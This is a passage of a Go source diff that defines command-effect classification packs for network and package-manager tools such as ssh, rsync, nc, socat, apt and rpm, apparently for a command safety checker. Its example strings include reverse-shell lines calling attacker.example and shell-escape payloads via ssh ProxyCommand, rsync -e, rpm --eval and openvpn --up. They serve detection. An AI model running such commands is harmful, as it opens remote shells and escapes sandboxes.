 	return Pack{Programs: []Program{{Exe: []string{"aria2c"}, Flags: []string{"-c", "--continue", "-q", "--quiet", "-V", "--check-integrity", "-Z", "--force-sequential", "--allow-overwrite", "--auto-file-renaming", "--remote-time", "--check-certificate", "--no-conf", "--show-console-readout", "--human-readable", "--enable-http-keep-alive", "--enable-http-pipelining", "--conditional-get", "--no-netrc", "--use-head", "--show-files", "-S", "--truncate-console-readout", "--summary-interval", "--download-result", "--console-log-level", "--log-level", "--optimize-concurrent-downloads", "--rpc-save-upload-metadata"}, Values: []string{"-x", "--max-connection-per-server", "-s", "--split", "-j", "--max-concurrent-downloads", "-k", "--min-split-size", "--header", "-U", "--user-agent", "--http-user", "--http-passwd", "--ftp-user", "--ftp-passwd", "--ca-certificate", "--certificate", "--private-key", "--seed-time", "--seed-ratio", "--file-allocation", "--gid", "-t", "--timeout", "--connect-timeout", "-m", "--max-tries", "--retry-wait", "--max-download-limit", "--max-overall-download-limit", "--referer", "--checksum", "--stream-piece-selector", "--uri-selector", "--lowest-speed-limit", "--max-file-not-found", "--piece-length"}, Effects: map[string]string{"--all-proxy": "url", "--conf-path": "exec", "--dht-file-path": "write", "--dir": "write", "--dry-run": "dry-run", "--ftp-proxy": "url", "--http-proxy": "url", "--https-proxy": "url", "--input-file": "read", "--load-cookies": "upload", "--log": "write", "--metalink-file": "read", "--on-bt-download-complete": "exec", "--on-download-complete": "exec", "--on-download-error": "exec", "--on-download-pause": "exec", "--on-download-start": "exec", "--on-download-stop": "exec", "--out": "write", "--save-cookies": "write", "--save-session": "write", "--server-stat-if": "read", "--server-stat-of": "write", "--torrent-file": "read", "-M": "read", "-T": "read", "-d": "write", "-i": "read", "-l": "write", "-o": "write"}, Operands: "url", Always: []string{"network", "writes-files"}, Examples: []string{"aria2c https://example.com/big.iso", "aria2c -o out.iso -d /tmp https://example.com/big.iso", "aria2c --on-download-error=/tmp/x http://some-invalid-domain"}, Counter: []string{"wget https://example.com"}}}}
 }
 
-func effectsNetworkL273() Pack {
+func effectsNetworkL298() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"lftp"}, Flags: []string{"-d", "--norc"}, Values: []string{"-p", "-u", "--user", "--password", "--env-password"}, Effects: map[string]string{"--rcfile": "exec", "-c": "script:ftp", "-e": "script:ftp", "-f": "exec"}, Operands: "url", Stdin: "script:ftp", Always: []string{"network", "runs-code"}, Examples: []string{"lftp sftp://user@files.example.com", "lftp -c '!/bin/sh'", "lftp -f mirror.lftp"}, Counter: []string{"ftp files.example.com"}}}}
 }
 
-func effectsNetworkL288() Pack {
+func effectsNetworkL313() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"ftp"}, Flags: []string{"-4", "-6", "-A", "-a", "-d", "-e", "-f", "-g", "-i", "-n", "-p", "-R", "-t", "-V", "-v"}, Values: []string{"-N", "-P", "-q", "-r", "-s", "-T"}, Effects: map[string]string{"-o": "write"}, First: "host", Stdin: "script:ftp", Always: []string{"network", "runs-code"}, Examples: []string{"ftp ftp.example.com", "ftp -n -v files.example.com 21", "ftp"}, Counter: []string{"tftp files.example.com"}}}}
 }
 
-func effectsNetworkL300() Pack {
+func effectsNetworkL325() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"tftp"}, Flags: []string{"-4", "-6", "-v", "-V", "-l"}, Values: []string{"-m", "-R"}, Effects: map[string]string{"-c": "script:ftp"}, First: "host", Stdin: "script:ftp", Always: []string{"network", "runs-code"}, Examples: []string{"tftp files.example.com", "tftp -m binary 10.0.0.5 69"}, Counter: []string{"ftp files.example.com"}}}}
 }
 
-func effectsNetworkL318() Pack {
+func effectsNetworkL343() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"ssh"}, Flags: []string{"-4", "-6", "-A", "-a", "-C", "-f", "-g", "-K", "-k", "-M", "-N", "-n", "-q", "-s", "-T", "-t", "-V", "-v", "-X", "-x", "-Y", "-y"}, Values: []string{"-B", "-b", "-c", "-e", "-l", "-m", "-p", "-Q", "-O", "-S", "-w", "-D", "-L", "-R", "-i", "-P"}, Effects: map[string]string{"-E": "write", "-F": "exec", "-G": "offline", "-I": "library", "-J": "host", "-W": "host", "-o": "script:sshoption"}, First: "host", Env: map[string]string{"SSH_ASKPASS": "exec"}, Always: []string{"network"}, Examples: []string{"ssh host uptime", "ssh -p 2222 deploy@build.example.com uptime", "ssh -o ProxyCommand=';/bin/sh 0<&2 1>&2' x", "ssh -F /tmp/cfg x", "ssh -L 8080:localhost:80 -N bastion"}, Counter: []string{"scp a host:"}}}}
 }
 
-func effectsNetworkL342() Pack {
+func effectsNetworkL367() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"scp"}, Flags: []string{"-3", "-4", "-6", "-A", "-B", "-C", "-O", "-p", "-q", "-R", "-s", "-v"}, Values: []string{"-c", "-i", "-l", "-P", "-X"}, Effects: map[string]string{"-D": "exec", "-F": "exec", "-J": "host", "-S": "exec", "-T": "writes-files", "-o": "script:sshoption", "-r": "recursive"}, Operands: "upload", Last: "write", Env: map[string]string{"SSH_ASKPASS": "exec"}, Always: []string{"network"}, Examples: []string{"scp file.txt host:/tmp/", "scp -r -P 2222 dist/ deploy@web.example.com:/srv/app", "scp user@files.example.com:/backups/db.sql .", "scp -S /tmp/x x x:"}, Counter: []string{"sftp host"}}}}
 }
 
-func effectsNetworkL364() Pack {
+func effectsNetworkL389() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"sftp"}, Flags: []string{"-4", "-6", "-A", "-a", "-C", "-f", "-N", "-p", "-q", "-r", "-v"}, Values: []string{"-B", "-c", "-i", "-l", "-P", "-R", "-s", "-X"}, Effects: map[string]string{"-D": "exec", "-F": "exec", "-J": "host", "-S": "exec", "-b": "exec", "-o": "script:sshoption"}, First: "host", Stdin: "script:ftp", Always: []string{"network", "runs-code"}, Examples: []string{"sftp user@files.example.com", "sftp -b batch.txt host", "sftp -P 2222 host"}, Counter: []string{"scp a host:"}}}}
 }
 
-func effectsNetworkL384() Pack {
+func effectsNetworkL409() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"rsync"}, Flags: []string{"-v", "--verbose", "-q", "--quiet", "--no-motd", "-c", "--checksum", "-R", "--relative", "--no-implied-dirs", "-b", "--backup", "-u", "--update", "--inplace", "--append", "--append-verify", "-d", "--dirs", "--old-dirs", "--old-d", "--mkpath", "-l", "--links", "-L", "--copy-links", "--copy-unsafe-links", "--safe-links", "--munge-links", "-k", "--copy-dirlinks", "-K", "--keep-dirlinks", "-H", "--hard-links", "-p", "--perms", "-E", "--executability", "-A", "--acls", "-X", "--xattrs", "-o", "--owner", "-g", "--group", "--devices", "--copy-devices", "--write-devices", "--specials", "-D", "-t", "--times", "-U", "--atimes", "--open-noatime", "-N", "--crtimes", "-O", "--omit-dir-times", "-J", "--omit-link-times", "--super", "--fake-super", "-S", "--sparse", "--preallocate", "-W", "--whole-file", "--no-whole-file", "--no-W", "-x", "--one-file-system", "--existing", "--ignore-non-existing", "--ignore-existing", "--ignore-missing-args", "--ignore-errors", "--force", "--partial", "--delay-updates", "-m", "--prune-empty-dirs", "--numeric-ids", "-I", "--ignore-times", "--size-only", "-y", "--fuzzy", "-z", "--compress", "-C", "--cvs-exclude", "-F", "-0", "--from0", "--old-args", "-s", "--secluded-args", "--protect-args", "--trust-sender", "--blocking-io", "--stats", "-8", "--8-bit-output", "-h", "--human-readable", "--progress", "-P", "-i", "--itemize-changes", "--fsync", "-4", "--ipv4", "-6", "--ipv6", "--inc-recursive", "--i-r", "--no-inc-recursive", "--no-i-r", "--no-perms", "--no-owner", "--no-group", "--no-times", "--no-o", "--no-g", "--no-p", "--no-t", "--no-D", "--drop-D"}, Values: []string{"--info", "--debug", "--stderr", "--chmod", "--suffix", "--max-delete", "--max-size", "--min-size", "--max-alloc", "--usermap", "--groupmap", "--chown", "--timeout", "--contimeout", "-@", "--modify-window", "--checksum-choice", "--cc", "-B", "--block-size", "--compress-choice", "--zc", "--compress-level", "--zl", "--compress-threads", "--zt", "--skip-compress", "-f", "--filter", "--exclude", "--include", "--copy-as", "--address", "--port", "--sockopts", "--outbuf", "--out-format", "--log-file-format", "--password-file", "--bwlimit", "--stop-after", "--stop-at", "--protocol", "--iconv", "--checksum-seed", "-M", "--remote-option", "--confine-root"}, Effects: map[string]string{"--archive": "recursive", "--backup-dir": "write", "--compare-dest": "read", "--copy-dest": "read", "--del": "dest-delete", "--delete": "dest-delete", "--delete-after": "dest-delete", "--delete-before": "dest-delete", "--delete-delay": "dest-delete", "--delete-during": "dest-delete", "--delete-excluded": "dest-delete", "--delete-missing-args": "dest-delete", "--dry-run": "dry-run", "--early-input": "upload", "--exclude-from": "read", "--files-from": "read", "--include-from": "read", "--link-dest": "read", "--list-only": "dry-run", "--log-file": "write", "--only-write-batch": "write", "--partial-dir": "write", "--read-batch": "read", "--recursive": "recursive", "--remove-source-files": "operands:delete", "--rsh": "shell", "--rsync-path": "shell", "--temp-dir": "write", "--write-batch": "write", "-T": "write", "-a": "recursive", "-e": "shell", "-n": "dry-run", "-r": "recursive"}, Operands: "read", Last: "write", Env: map[string]string{"RSYNC_CONNECT_PROG": "shell", "RSYNC_PROXY": "host", "RSYNC_RSH": "shell"}, Examples: []string{"rsync -av src/ host:/srv/app/", "rsync -a --delete build/ web.example.com:/var/www/", "rsync -n -a src/ dst/", "rsync -e '/bin/sh -c \"/bin/sh 0<&2 1>&2\"' x:x", "rsync --files-from=list.txt . host:/x"}, Counter: []string{"scp a host:"}}}}
 }
 
-func effectsNetworkL453() Pack {
+func effectsNetworkL478() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"sshfs"}, Flags: []string{"-C", "-f", "-d", "-s", "-V"}, Values: []string{"-p"}, Effects: map[string]string{"-F": "exec", "-o": "script:sshoption"}, First: "host", Last: "write", Always: []string{"network"}, Examples: []string{"sshfs user@files.example.com:/srv mnt/", "sshfs -o ssh_command=/tmp/x x: /tmp/dir/"}, Counter: []string{"ssh host"}}}}
 }
 
-func effectsNetworkL467() Pack {
+func effectsNetworkL492() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"ssh-copy-id"}, Flags: []string{"-f", "-s", "-x"}, Values: []string{"-p", "-t"}, Effects: map[string]string{"-F": "exec", "-i": "upload", "-n": "dry-run", "-o": "script:sshoption"}, Operands: "host", Always: []string{"network"}, Examples: []string{"ssh-copy-id user@host", "ssh-copy-id -i ~/.ssh/id_ed25519.pub -p 2222 deploy@web.example.com"}, Counter: []string{"ssh host"}}}}
 }
 
-func effectsNetworkL481() Pack {
+func effectsNetworkL506() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"ssh-keyscan"}, Flags: []string{"-4", "-6", "-c", "-D", "-H", "-q", "-v"}, Values: []string{"-O", "-p", "-T", "-t"}, Effects: map[string]string{"-f": "read"}, Operands: "host", Always: []string{"network"}, Examples: []string{"ssh-keyscan github.com", "ssh-keyscan -t ed25519 -p 2222 git.example.com", "ssh-keyscan -f hosts.txt"}, Counter: []string{"ssh github.com"}}}}
 }
 
-func effectsNetworkL493() Pack {
+func effectsNetworkL518() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"sshpass"}, Flags: []string{"-e", "-v", "-h", "-V"}, Values: []string{"-p", "-f", "-d", "-P"}, First: "command", Examples: []string{"sshpass -p secret ssh user@host uptime", "sshpass /bin/sh", "sshpass -e scp a host:"}, Counter: []string{"ssh host"}}}}
 }
 
-func effectsNetworkL505() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"nc", "netcat"}, Flags: []string{"-4", "-6", "-b", "-C", "-D", "-d", "-F", "-h", "-k", "-l", "-N", "-n", "-r", "-S", "-t", "-U", "-u", "-v", "-z", "-L", "-g", "-G"}, Values: []string{"-I", "-i", "-M", "-m", "-O", "-P", "-p", "-s", "-T", "-V", "-W", "-w", "-q", "-X", "-K", "-R", "-H"}, Effects: map[string]string{"-Z": "write", "-c": "shell", "-e": "exec", "-o": "write", "-x": "url"}, First: "host", Always: []string{"network"}, Examples: []string{"nc -z 10.0.0.1 22", "nc -lvnp 4444", "nc -e /bin/sh attacker.example 12345", "netcat example.com 80"}, Counter: []string{"ncat example.com 80"}}}}
+func effectsNetworkL530() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"nc", "netcat"}, Flags: []string{"-4", "-6", "-b", "-C", "-D", "-d", "-F", "-h", "-k", "-N", "-n", "-r", "-S", "-t", "-U", "-u", "-v", "-L", "-g", "-G"}, Values: []string{"-I", "-i", "-M", "-m", "-O", "-P", "-p", "-s", "-T", "-V", "-W", "-w", "-q", "-X", "-K", "-R", "-H"}, Effects: map[string]string{"-Z": "write", "-c": "shell", "-e": "exec", "-l": "sends", "-o": "write", "-x": "url", "-z": "remote-read"}, First: "host", Always: []string{"network"}, Examples: []string{"nc -z 10.0.0.1 22", "nc -zv localhost 5432", "nc -lvnp 4444", "nc -e /bin/sh attacker.example 12345", "netcat example.com 80"}, Counter: []string{"ncat example.com 80"}}}}
 }
 
-func effectsNetworkL521() Pack {
+func effectsNetworkL549() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"ncat"}, Flags: []string{"-4", "-6", "-U", "--unixsock", "-u", "--udp", "--sctp", "-C", "--crlf", "-v", "--verbose", "-z", "-n", "--nodns", "-l", "--listen", "-k", "--keep-open", "--send-only", "--recv-only", "--no-shutdown", "--broker", "--chat", "--append-output", "--ssl", "--ssl-verify", "-t", "--telnet", "--vsock"}, Values: []string{"-p", "--source-port", "-s", "--source", "-w", "--wait", "-i", "--idle-timeout", "-d", "--delay", "-m", "--max-conns", "-g", "-G", "--proxy-auth", "--proxy-type", "--proxy-dns", "--allow", "--deny", "--ssl-ciphers", "--ssl-servername", "--ssl-alpn", "--ssl-cert", "--ssl-key", "--ssl-trustfile"}, Effects: map[string]string{"--allowfile": "read", "--denyfile": "read", "--exec": "exec", "--hex-dump": "write", "--lua-exec": "exec", "--output": "write", "--proxy": "url", "--sh-exec": "shell", "-c": "shell", "-e": "exec", "-o": "write", "-x": "write"}, First: "host", Always: []string{"network"}, Examples: []string{"ncat example.com 80", "ncat -lk 8080 --sh-exec 'cat'", "ncat --exec /bin/sh attacker.example 9001"}, Counter: []string{"nc example.com 80"}}}}
 }
 
-func effectsNetworkL550() Pack {
+func effectsNetworkL578() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"socat"}, Flags: []string{"-d", "-D", "-v", "-x", "-u", "-U", "-g", "-s", "-4", "-6", "-ly", "-ls", "-lu", "-lh", "-lm"}, Values: []string{"-b", "-t", "-T", "-S", "-lp"}, Effects: map[string]string{"-L": "write", "-R": "write", "-W": "write", "-lf": "write", "-r": "write"}, Always: []string{"network"}, Examples: []string{"socat - TCP:example.com:80", "socat tcp-connect:attacker.example:12345 exec:/bin/sh,pty,stderr,setsid,sigint,sane", "socat -lf /tmp/log - TCP:h:1"}, Counter: []string{"nc example.com 80"}}}}
 }
 
-func effectsNetworkL566() Pack {
+func effectsNetworkL594() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"telnet"}, Flags: []string{"-4", "-6", "-8", "-E", "-F", "-K", "-L", "-N", "-a", "-c", "-d", "-f", "-r", "-x"}, Values: []string{"-l", "-e", "-b", "-X", "-k", "-S"}, Effects: map[string]string{"-n": "write"}, First: "host", Always: []string{"network", "runs-code"}, Examples: []string{"telnet example.com 80", "telnet", "telnet -l admin 10.0.0.1"}, Counter: []string{"nc example.com 80"}}}}
 }
 
-func effectsNetworkL581() Pack {
+func effectsNetworkL609() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"openvpn"}, Flags: []string{"--show-ciphers", "--show-digests", "--show-tls", "--show-engines", "--show-curves", "--show-groups", "--show-gateway"}, Effects: map[string]string{"--auth-user-pass-verify": "shell", "--client-connect": "shell", "--client-disconnect": "shell", "--config": "exec", "--down": "shell", "--ipchange": "shell", "--learn-address": "shell", "--log": "write", "--log-append": "write", "--plugin": "library", "--remote": "host", "--route-pre-down": "shell", "--route-up": "shell", "--status": "write", "--tls-verify": "shell", "--up": "shell", "--writepid": "write"}, Operands: "exec", Examples: []string{"openvpn --show-ciphers", "openvpn client.ovpn", "openvpn --dev null --script-security 2 --up '/bin/sh -s'"}, Counter: []string{"tailscale status"}}}}
 }
 
-func effectsNetworkL607() Pack {
+func effectsNetworkL635() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"tailscale"}, Values: []string{"-socket"}, Operands: "subcommand", Examples: []string{"tailscale", "tailscale --socket=/tmp/s frobnicate"}, Counter: []string{"tailscale status"}}}}
 }
 
-func effectsNetworkL614() Pack {
+func effectsNetworkL642() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"tailscale"}, Sub: []string{"status"}, Flags: []string{"-json", "-active", "-self", "-peers", "-web", "-browser"}, Values: []string{"-listen"}, Examples: []string{"tailscale status", "tailscale status -json"}}}}
 }
 
-func effectsNetworkL621() Pack {
+func effectsNetworkL649() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"tailscale"}, Sub: []string{"ip|version|whois|id-token|licenses|exit-node"}, Flags: []string{"-4", "-6", "-1", "-json", "-daemon", "-upstream"}, Examples: []string{"tailscale ip -4", "tailscale version", "tailscale whois 100.64.0.1"}}}}
 }
 
-func effectsNetworkL627() Pack {
+func effectsNetworkL655() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"tailscale"}, Sub: []string{"netcheck|ping|nc|dns"}, Flags: []string{"-verbose", "-tsmp", "-icmp", "-peerapi", "-until-direct", "-every"}, Values: []string{"-format", "-c", "-timeout", "-size"}, Always: []string{"network"}, Examples: []string{"tailscale ping web-1", "tailscale netcheck"}}}}
 }
 
-func effectsNetworkL635() Pack {
+func effectsNetworkL663() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"tailscale"}, Sub: []string{"up|down|login|logout|set|switch|cert|configure|file|serve|funnel|ssh|drive|lock|update|bugreport|debug|web"}, Always: []string{"network", "runs-code"}, Examples: []string{"tailscale serve --http=12345 /tmp/x", "tailscale ssh host", "tailscale file cp a.txt peer:"}}}}
 }
 
@@ -8893,322 +8940,330 @@ func effectsPackagesL30() Pack {
 }
 
 func effectsPackagesL46() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"apt", "apt-get", "aptitude"}, Sub: []string{"install|reinstall|remove|purge|autoremove|autopurge|update|upgrade|full-upgrade|dist-upgrade|safe-upgrade|satisfy|build-dep|source|download|clean|autoclean|changelog|check|dselect-upgrade|markauto|unmarkauto|hold|unhold|forget-new|keep|keep-all|edit-sources|moo|indep-dep|build-depends"}, Flags: []string{"-y", "--yes", "--assume-yes", "-q", "--quiet", "-s", "--simulate", "--dry-run", "--no-install-recommends", "--no-install-suggests", "-f", "--fix-broken", "--purge", "--auto-remove", "--autoremove", "-d", "--download-only", "--reinstall", "--only-upgrade", "--no-upgrade", "--allow-downgrades", "--compile", "-b", "--build", "--print-uris"}, Values: []string{"-t", "--target-release", "-a", "--host-architecture"}, Effects: map[string]string{"-c": "exec", "-o": "exec"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"apt-get install -y --no-install-recommends curl", "apt update", "apt remove nginx", "apt-get changelog apt", "aptitude changelog aptitude", "apt edit-sources", "apt-get -y install curl"}}}}
+	return Pack{Programs: []Program{{Exe: []string{"apt", "apt-get", "aptitude"}, Sub: []string{"update|safe-upgrade|source|download|clean|autoclean|changelog|check|dselect-upgrade|markauto|unmarkauto|hold|unhold|forget-new|keep|keep-all|edit-sources|moo|indep-dep|build-depends"}, Flags: []string{"-y", "--yes", "--assume-yes", "-q", "--quiet", "-s", "--simulate", "--dry-run", "--no-install-recommends", "--no-install-suggests", "-f", "--fix-broken", "--purge", "--auto-remove", "--autoremove", "-d", "--download-only", "--reinstall", "--only-upgrade", "--no-upgrade", "--allow-downgrades", "--compile", "-b", "--build", "--print-uris"}, Values: []string{"-t", "--target-release", "-a", "--host-architecture"}, Effects: map[string]string{"-c": "exec", "-o": "exec"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"apt update", "apt-get changelog apt", "aptitude changelog aptitude", "apt edit-sources"}}}}
 }
 
-func effectsPackagesL62() Pack {
+func effectsPackagesL61() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"apt", "apt-get", "aptitude"}, Sub: []string{"install|reinstall|remove|purge|autoremove|autopurge|upgrade|full-upgrade|dist-upgrade|satisfy|build-dep"}, Flags: []string{"-y", "--yes", "--assume-yes", "-q", "--quiet", "--no-install-recommends", "--no-install-suggests", "-f", "--fix-broken", "--purge", "--auto-remove", "--autoremove", "-d", "--download-only", "--reinstall", "--only-upgrade", "--no-upgrade", "--allow-downgrades", "--compile", "-b", "--build", "--print-uris"}, Values: []string{"-t", "--target-release", "-a", "--host-architecture"}, Effects: map[string]string{"--dry-run": "dry-run", "--just-print": "dry-run", "--no-act": "dry-run", "--recon": "dry-run", "--simulate": "dry-run", "-c": "exec", "-o": "exec", "-s": "dry-run"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"apt-get install -y --no-install-recommends curl", "apt remove nginx", "apt-get -y install curl", "apt-get -s install curl", "apt-get --simulate dist-upgrade"}}}}
+}
+
+func effectsPackagesL85() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"dpkg"}, Flags: []string{"-l", "--list", "-L", "--listfiles", "-s", "--status", "-S", "--search", "-p", "--print-avail", "-c", "--contents", "-I", "--info", "--get-selections", "--print-architecture", "--print-foreign-architectures", "--compare-versions", "-V", "--verify", "-C", "--audit", "--yet-to-unpack", "--predep-package", "--assert-help", "--force-help", "--ctrl-tarfile", "--fsys-tarfile", "-f", "--field", "--no-pager", "--validate-pkgname", "--validate-archname", "--validate-trigname", "--validate-version"}, Values: []string{"--verify-format", "--showformat", "--admindir", "--root", "--instdir"}, Effects: map[string]string{"--post-invoke": "shell", "--pre-invoke": "shell"}, Operands: "read", Env: map[string]string{"DPKG_PAGER": "shell", "PAGER": "shell"}, Examples: []string{"dpkg -l", "dpkg -l 'python3*'", "dpkg -L curl", "dpkg -S /usr/bin/git", "dpkg -s openssl", "dpkg --print-architecture", "dpkg -c pkg.deb", "dpkg --compare-versions 1.2 lt 1.10", "dpkg -i pkg.deb"}}}}
 }
 
-func effectsPackagesL80() Pack {
+func effectsPackagesL103() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"rpm"}, Flags: []string{"-q", "--query", "-a", "--all", "-f", "--file", "-g", "--group", "-p", "--package", "-i", "--info", "-l", "--list", "-c", "--configfiles", "-d", "--docfiles", "-s", "--state", "-R", "--requires", "--provides", "--conflicts", "--obsoletes", "--recommends", "--suggests", "--supplements", "--enhances", "--changelog", "--changes", "--scripts", "--triggers", "--triggerscripts", "--filetriggers", "--dump", "--last", "--whatprovides", "--whatrequires", "--whatrecommends", "--whatsuggests", "--whatconflicts", "--whatobsoletes", "--whatsupplements", "--whatenhances", "--nosignature", "--nodigest", "--nofiles", "-v", "--verbose", "--quiet", "--xml", "--fileclass", "--filecolor", "--fileprovide", "--filerequire", "--filecaps", "--noartifact", "--noghost", "--nomanifest", "--showrc", "--querytags", "--checksig", "-K", "--licensefiles", "--artifactfiles"}, Values: []string{"--qf", "--queryformat", "--dbpath", "--root"}, Effects: map[string]string{"--define": "exec", "--eval": "script:code", "--load": "exec", "--macros": "exec", "--pipe": "shell", "--rcfile": "exec", "-D": "exec", "-E": "script:code"}, Operands: "read", Examples: []string{"rpm -qa", "rpm -qi bash", "rpm -ql openssl", "rpm -qf /usr/bin/git", "rpm -q --qf '%{VERSION}\\n' kernel", "rpm --eval '%(/bin/sh 1>&2)'", "rpm --pipe '/bin/sh 0<&1' -qa", "rpm -ivh pkg.rpm"}}}}
 }
 
-func effectsPackagesL104() Pack {
+func effectsPackagesL127() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"opkg"}, Values: []string{"-f", "--conf", "-o", "--offline-root", "-d", "--dest", "-V", "--verbosity"}, Operands: "subcommand", Examples: []string{"opkg frobnicate"}}}}
 }
 
-func effectsPackagesL110() Pack {
+func effectsPackagesL133() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"opkg"}, Sub: []string{"list|list-installed|list-upgradable|info|status|files|search|find|print-architecture|depends|whatdepends|whatdependsrec|whatprovides|whatconflicts|whatreplaces|compare-versions"}, Flags: []string{"-A", "--size"}, Values: []string{"-f", "--conf", "-o", "--offline-root", "-d", "--dest", "-V", "--verbosity"}, Examples: []string{"opkg list-installed", "opkg info busybox", "opkg files dropbear"}, Counter: []string{"opkg install vim"}}}}
 }
 
-func effectsPackagesL118() Pack {
+func effectsPackagesL141() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"opkg"}, Sub: []string{"update|install|remove|upgrade|configure|flag|clean|download"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"opkg update", "opkg install vim"}}}}
 }
 
-func effectsPackagesL126() Pack {
+func effectsPackagesL149() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"dnf", "yum"}, Flags: []string{"-y", "--assumeyes", "--assumeno", "-q", "--quiet", "-v", "--verbose", "-C", "--cacheonly", "--refresh", "--nogpgcheck", "--best", "--nobest", "--allowerasing", "--skip-broken", "--downloadonly", "--noplugins"}, Values: []string{"--enablerepo", "--disablerepo", "--repo", "--repoid", "--releasever", "--exclude", "-x", "--setopt", "--installroot", "--forcearch", "--disableplugin", "--enableplugin", "-d", "--debuglevel", "-e", "--errorlevel"}, Effects: map[string]string{"--config": "exec", "-c": "exec"}, Operands: "subcommand", Examples: []string{"dnf frobnicate", "yum -q frobnicate"}}}}
 }
 
-func effectsPackagesL138() Pack {
+func effectsPackagesL161() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"dnf", "yum"}, Sub: []string{"list|info|search|provides|whatprovides|repolist|repoquery|rq|deplist|check-update|updateinfo|repoinfo|changelog|group|groups|module|alias|history|makecache|check|mark|download|config-manager"}, Flags: []string{"--installed", "--available", "--updates", "--upgrades", "--extras", "--obsoletes", "--recent", "--all", "--enabled", "--disabled", "-C", "--cacheonly", "-q", "--quiet", "-v", "--verbose", "--showduplicates", "--requires", "--provides", "--whatrequires", "--whatprovides", "-l", "--list", "-i", "--info", "--security"}, Values: []string{"--enablerepo", "--disablerepo", "--repo", "--qf", "--queryformat", "--arch", "--releasever"}, Always: []string{"network"}, Examples: []string{"dnf list installed", "dnf info bash", "yum search nginx", "dnf repoquery -l curl", "dnf history"}}}}
 }
 
-func effectsPackagesL148() Pack {
+func effectsPackagesL171() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"dnf", "yum"}, Sub: []string{"install|in|reinstall|remove|rm|erase|autoremove|upgrade|up|update|distro-sync|dsync|downgrade|swap|clean|localinstall|groupinstall|builddep|shell|upgrade-minimal|offline-upgrade|system-upgrade"}, Flags: []string{"-y", "--assumeyes", "-q", "--quiet", "--nogpgcheck", "--best", "--allowerasing", "--skip-broken", "--downloadonly", "--refresh"}, Values: []string{"--enablerepo", "--disablerepo", "--repo", "--exclude", "-x", "--releasever", "--installroot"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"dnf install -y git", "yum remove httpd", "dnf upgrade --refresh", "dnf -y install git"}}}}
 }
 
-func effectsPackagesL157() Pack {
+func effectsPackagesL180() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"zypper"}, Flags: []string{"-n", "--non-interactive", "-q", "--quiet", "-v", "--verbose", "-x", "--xmlout", "--no-refresh", "--no-gpg-checks", "--gpg-auto-import-keys", "-t", "--terse", "--no-abbrev", "-s", "--no-color", "--color", "-i", "--ignore-unknown"}, Values: []string{"--root", "--installroot", "-R", "-D", "--reposd-dir", "-C", "--cache-dir", "--raw-cache-dir", "--solv-cache-dir", "--pkg-cache-dir", "--table-style"}, Effects: map[string]string{"--config": "exec", "-c": "exec"}, Operands: "subcommand", Examples: []string{"zypper x", "zypper --non-interactive frobnicate"}}}}
 }
 
-func effectsPackagesL170() Pack {
+func effectsPackagesL193() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"zypper"}, Sub: []string{"repos|lr|services|ls|locks|ll|products|pd"}, Flags: []string{"-u", "--uri", "-p", "--priority", "-d", "--details", "-E", "--show-enabled-only", "-s", "--service", "-N", "--sort-by-name", "-U", "--sort-by-uri", "-P", "--sort-by-priority", "-i", "--installed-only"}, Examples: []string{"zypper lr -u", "zypper repos", "zypper locks"}}}}
 }
 
-func effectsPackagesL177() Pack {
+func effectsPackagesL200() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"zypper"}, Sub: []string{"search|se|info|if|packages|pa|patterns|pt|patches|list-updates|lu|list-patches|lp|what-provides|wp|patch-check|pchk"}, Flags: []string{"-i", "--installed-only", "-u", "--not-installed-only", "-s", "--details", "-v", "--verbose", "--match-exact", "--match-words", "--provides", "--requires", "--recommends", "--suggests", "--conflicts", "--obsoletes", "--supplements", "--orphaned", "--suggested", "--recommended", "--unneeded", "-a", "--all"}, Values: []string{"-r", "--repo", "-t", "--type"}, Always: []string{"network"}, Examples: []string{"zypper se -i kernel", "zypper info vim", "zypper lu"}}}}
 }
 
-func effectsPackagesL187() Pack {
+func effectsPackagesL210() Pack {
